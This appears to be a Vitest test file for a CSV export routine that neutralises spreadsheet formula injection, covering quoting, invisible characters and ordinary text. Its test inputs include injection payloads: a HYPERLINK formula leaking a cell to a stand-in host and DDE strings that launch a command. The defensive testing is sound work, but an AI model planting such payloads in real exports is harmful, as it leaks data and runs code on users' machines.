import { describe, expect, it } from 'vitest';
import { renderCsv, spreadsheetSafe } from '../../src/render/csv.ts';

describe('CSV export (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?leak="&A1,"Read the full story")'],
    ['+1+cmd|" /C calc"!A0'],
    ['-2+3'],
    ['@SUM(1+1)*cmd|" /C calc"!A0'],
    ['\t=1+2'],
    ['\r=1+2'],
  ])('puts a single quote before a cell that a spreadsheet would read as a formula: %j', (cell) => {
    expect(spreadsheetSafe(cell)).toBe(`'${cell}`);
    const csv = renderCsv([{ headline: cell, quote: 'The ferry leaves at noon.' }], ['headline', 'quote']);
    const [, row = ''] = csv.split(/\r?\n(?=")/);
    expect(row.startsWith(`"'${cell.charAt(0)}`)).toBe(true);
  });

  it('sees a formula behind leading spaces or invisible characters, and drops the invisible ones', () => {
    expect(spreadsheetSafe('  =1+2')).toBe("'  =1+2");
    expect(spreadsheetSafe('\u200b\u202e=1+2')).toBe("'=1+2");
    expect(spreadsheetSafe('Fares\u200b rise')).toBe('Fares rise');
  });

  it('leaves ordinary text, inner formula characters and numbers as they are', () => {
    expect(spreadsheetSafe('The mayor said "=" twice.')).toBe('The mayor said "=" twice.');
    expect(spreadsheetSafe('Ferry fares rise - again')).toBe('Ferry fares rise - again');
    const csv = renderCsv([{ text: 'Fares rise by a tenth.', paragraph: 3, speaker: null }], ['text', 'paragraph', 'speaker']);
    expect(csv).toBe('"text","paragraph","speaker"\n"Fares rise by a tenth.","3",""\n');
  });

  it('quotes every cell and doubles inner quotes, so a comma, quote or line break cannot start a new cell', () => {
    const csv = renderCsv([{ a: 'one, "two"\n=three', b: 'x' }], ['a', 'b']);
    expect(csv).toBe('"a","b"\n"one, ""two""\n=three","x"\n');
  });
});
